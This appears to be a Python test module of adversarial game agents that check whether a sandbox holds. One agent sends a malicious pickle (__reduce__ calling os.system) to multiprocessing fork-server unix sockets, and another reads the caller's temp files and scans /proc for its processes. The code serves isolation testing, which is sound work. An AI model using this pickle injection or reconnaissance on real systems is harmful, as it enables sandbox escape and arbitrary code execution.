"""Agents that try to leave their box: the program's fork server, its unix sockets, its
temporary folder, the other processes of the machine. Each reports what it reached on
stderr (``ATTACK <name> <json>``) on its first move and then plays at random."""

import glob
import json
import os
import pickle
import socket
import sys
import tempfile
import time
from multiprocessing import reduction


def report(name, found):
    print(f"ATTACK {name} {json.dumps(found)}", file=sys.stderr, flush=True)


class RandomPlayer:
    def __init__(self, index=0, rng=None):
        self.rng = rng
        self.done = False

    def get_action(self, state):
        if not self.done:
            self.done = True
            self.attack()
        return self.rng.choice(state.legal_actions())

    def attack(self):
        pass


class Command:
    """Unpickling this runs a shell command: what a fork server does with what it is sent."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


def unix_socket_paths():
    """Every named unix socket this process can find: in the temporary folders it knows of and
    in /proc/net/unix."""
    found = set()
    folders = {tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp")}
    for folder in folders:
        found.update(glob.glob(os.path.join(folder, "pymp-*", "*")))
        found.update(glob.glob(os.path.join(folder, "*", "pymp-*", "*")))
    try:
        with open("/proc/net/unix") as table:
            for line in table.readlines()[1:]:
                fields = line.split()
                if len(fields) >= 8 and fields[7].startswith("/"):
                    found.add(fields[7])
    except OSError:
        pass
    return sorted(found)


class ForkServerEscape(RandomPlayer):
    """Connects to every multiprocessing listener it finds and sends it a pickle that writes
    ``proof`` (its capabilities and how many processes it sees) from outside the box."""

    def __init__(self, index=0, rng=None, proof="/tmp/escaped", tmpdir="/tmp"):
        super().__init__(index, rng)
        self.proof = str(proof)
        self.tmpdir = str(tmpdir)

    def attack(self):
        proof = self.proof
        connected = []
        for path in unix_socket_paths():
            if not path.startswith(self.tmpdir) and "pymp-" not in path:
                continue
            try:
                client = socket.socket(socket.AF_UNIX)
                client.settimeout(2)
                client.connect(path)
            except OSError:
                continue
            connected.append(path)
            try:
                parent_r, child_w = os.pipe()
                child_r, parent_w = os.pipe()
                reduction.sendfds(client, [child_r, child_w, child_w, child_w])
                command = (f"(grep CapEff /proc/self/status; ls /proc | grep -c '^[0-9]') "
                           f"> {proof} 2>&1")
                os.write(parent_w, pickle.dumps(Command(command)))
                time.sleep(0.5)
            except OSError:
                pass
            finally:
                client.close()
        report("escape", {"connected": connected, "proof_written": os.path.exists(proof)})


class SeesTheCaller(RandomPlayer):
    """Reads the ``marker`` file in the caller's temporary folder, lists that folder, and
    looks for the program's own processes among those it can see."""

    def __init__(self, index=0, rng=None, marker="/tmp/marker"):
        super().__init__(index, rng)
        self.marker = str(marker)

    def attack(self):
        marker = self.marker
        found = {}
        try:
            with open(marker) as file:
                found["marker"] = file.read()
        except OSError as error:
            found["marker_error"] = type(error).__name__
        try:
            found["listed"] = os.listdir(os.path.dirname(marker))
        except OSError as error:
            found["list_error"] = type(error).__name__
        pids = [name for name in os.listdir("/proc") if name.isdigit()]
        programs = []
        for pid in pids:
            if int(pid) == os.getpid():
                continue
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as file:
                    line = file.read().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if "run.py" in line or "-m pytest" in line:
                programs.append(line[:200])
        found["pids"] = len(pids)
        found["programs"] = programs
        report("caller", found)
